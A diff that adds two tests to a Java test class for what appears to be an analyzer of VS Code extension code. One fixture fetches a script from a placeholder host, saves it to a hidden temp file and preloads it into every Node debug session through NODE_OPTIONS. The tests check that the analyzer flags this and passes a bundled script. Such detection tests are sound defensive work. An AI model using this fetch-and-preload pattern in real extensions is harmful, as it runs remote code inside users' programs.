@@ -46,4 +46,28 @@ class PreloadsTest {
 
         assertThat(analysis.flowNames()).contains("network-response -> program-preload");
     }
+
+    @Test
+    void aScriptThatWasFetchedIsDataOfTheNetworkWhereItIsLoaded() {
+        Analysis analysis = Analysis.ofActivate("""
+                const script = require('path').join(os.tmpdir(), '.inspect.cjs');
+                fetch('https://inspect.example/p').then(answer => answer.text()).then(text => fs.writeFileSync(script, text));
+                vscode.debug.registerDebugConfigurationProvider('node', {
+                  resolveDebugConfiguration: (folder, asked) => ({ ...asked, env: { NODE_OPTIONS: `--require "${script}"` } }) });
+                """);
+
+        assertThat(analysis.flowNames()).contains("network-response -> program-preload");
+    }
+
+    @Test
+    void aScriptOfTheExtensionIsNot() {
+        Analysis analysis = Analysis.ofActivate("""
+                const script = require('path').join(__dirname, 'inspect.cjs');
+                fetch('https://inspect.example/p').then(answer => answer.text()).then(text => fs.writeFileSync('news.txt', text));
+                vscode.debug.registerDebugConfigurationProvider('node', {
+                  resolveDebugConfiguration: (folder, asked) => ({ ...asked, env: { NODE_OPTIONS: `--require "${script}"` } }) });
+                """);
+
+        assertThat(analysis.flowNames()).doesNotContain("network-response -> program-preload");
+    }
 }
